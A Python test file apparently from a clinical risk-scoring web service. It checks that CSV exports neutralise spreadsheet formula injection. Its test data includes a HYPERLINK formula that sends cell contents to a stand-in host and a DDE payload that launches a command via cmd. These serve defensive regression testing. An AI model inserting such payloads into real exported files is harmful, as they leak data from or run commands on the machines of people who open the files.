"""Issue 15.10: no cell of the CSV the service writes runs as a spreadsheet formula (OWASP CSV
injection); the neutralising functions live in :mod:`crsscore.csvsafe`."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from crsscore.csvsafe import neutralise_cell, neutralise_frame
from crsscore.scores.scorecard import RiskGroup
from crsscore.service.main import create_app
from service_cards import make_points_card


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1,"open")', "+cmd|' /C calc'!A0",
            "-2+3+cmd", "@SUM(A1:A2)", "\tTAB", "\rCR"]


@pytest.mark.parametrize("cell", FORMULAS)
def test_neutralise_cell_quotes_formulas(cell: str) -> None:
    assert neutralise_cell(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["A1", "-12", "+3.5", "1e-3", "-.5", "", "P-0001", "'=x"])
def test_neutralise_cell_leaves_text_and_plain_numbers(cell: str) -> None:
    assert neutralise_cell(cell) == cell


def test_neutralise_frame_changes_only_text_cells() -> None:
    import pandas as pd

    frame = pd.DataFrame({"id": ["=1+1", "ok", None], "total": [-1.0, 2.0, float("nan")],
                          "n": [-3, 4, 5]})
    out = neutralise_frame(frame)
    assert out["id"].tolist()[:2] == ["'=1+1", "ok"] and pd.isna(out["id"].iloc[2])
    assert out["total"].equals(frame["total"]) and out["n"].equals(frame["n"])
    assert frame["id"].iloc[0] == "=1+1"  # the input is not modified


def test_batch_csv_neutralises_formula_ids_and_card_text() -> None:
    """Reproducer: ids such as '=HYPERLINK(...)' or '+cmd' were copied unescaped into the
    /batch CSV; risk-group names and warnings come from card files and are text too."""
    card = make_points_card().model_copy(update={"risk_groups": [
        RiskGroup(name="=low", max_total=2), RiskGroup(name="@high", min_total=3)]})
    ids = [*FORMULAS, "-12", "P1"]
    body = "id,crp [mg/dL],ferritin [ng/mL],plt [10^9/L],costim,mrd_baseline_pct [%]\n" + "".join(
        f'"{i.replace(chr(34), chr(34) * 2)}",4.5,1500,60,CD28,12\n' for i in ids)
    with TestClient(create_app(builtin=False, cards=[card])) as client:
        r = client.post("/api/v1/scorecards/test-points/batch",
                        files={"file": ("p.csv", body, "text/csv")})
    assert r.status_code == 200
    rows = _rows(r.text)
    assert [row["id"] for row in rows] == [*("'" + f for f in FORMULAS), "-12", "P1"]
    assert {row["risk_group"] for row in rows} == {"'@high"}
    assert rows[0]["total"] == "7"  # numbers stay numbers
